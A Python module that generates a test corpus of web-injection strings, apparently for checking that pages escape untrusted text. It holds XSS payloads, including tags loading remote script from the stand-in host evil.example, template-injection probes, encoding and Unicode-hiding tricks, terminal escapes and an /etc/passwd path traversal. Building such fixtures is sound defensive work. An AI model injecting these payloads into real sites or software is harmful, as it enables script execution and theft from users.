"""Texts that would run, load or hide something in a page that shows them carelessly."""

from itertools import product

ACTS = ("window.ran=1", "alert(1)")
_EVENTS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart"),
    *("onpointerenter", "onbegin", "onpageshow"),
)
_SCRIPTS = (
    "<script>{act}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>{act}</script\n>",
    "</pre><script>{act}</script>",
    "</textarea><script>{act}</script>",
    "</title><script>{act}</script>",
    "</style><script>{act}</script>",
    "</select><script>{act}</script>",
    "--><script>{act}</script><!--",
    "]]><script>{act}</script>",
    "'\"><script>{act}</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<template><script>{act}</script></template>",
)
_TAGS = (
    "<img src=x {event}={act}>",
    "<svg {event}={act}>",
    '" {event}="{act}" x="',
    "' {event}='{act}' x='",
    "<details open {event}={act}>",
)
_ADDRESSES = (
    "<a href='javascript:{act}'>go</a>",
    "<iframe src='javascript:{act}'></iframe>",
    "<iframe srcdoc='<script>parent.{act}</script>'></iframe>",
    "<form action='javascript:{act}'><button autofocus>go</button></form>",
    "<object data='data:text/html,<script>parent.{act}</script>'></object>",
    "<embed src='javascript:{act}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<img src='//evil.example/pixel.png'>",
    "<video src='//evil.example/v' autoplay {event}={act}></video>",
    "<svg><script href='//evil.example/x.js'></script></svg>",
    "<svg><a xlink:href='javascript:{act}'><text y=20>go</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:{act}'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={act}>",
    "<math href='javascript:{act}'>go</math>",
    "<svg><foreignObject><iframe src='javascript:{act}'></iframe></foreignObject></svg>",
)
_OTHERS = (
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<div hx-get=//evil.example hx-trigger=load></div>",
    "<div hx-on:load='window.ran=1'></div>",
    "<div data-live=//evil.example/live data-version=x></div>",
    "<tr data-row><td autofocus>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "\ufeff<script>window.ran=1</script>",
    "\u202e<script>window.ran=1</script>\u202c",
    "\u200b\u200d\u2066hidden\u2069",
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x01\x02\x08\x7f\x85",
    "../../../../etc/passwd",
    "javascript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "//evil.example/x",
    "http://127.0.0.1:1/?a=<b>&c='d'",
    "a" * 5_000,
    "<" * 2_000,
)


def payloads() -> list[str]:
    """Return the texts, over a hundred, each once."""
    found = [text.format(act=act) for text, act in product(_SCRIPTS, ACTS)]
    found += [text.format(event=event, act=ACTS[0]) for text, event in product(_TAGS, _EVENTS)]
    found += [text.format(event="oncanplay", act=ACTS[0]) for text in _ADDRESSES]
    return list(dict.fromkeys([*found, *_OTHERS]))
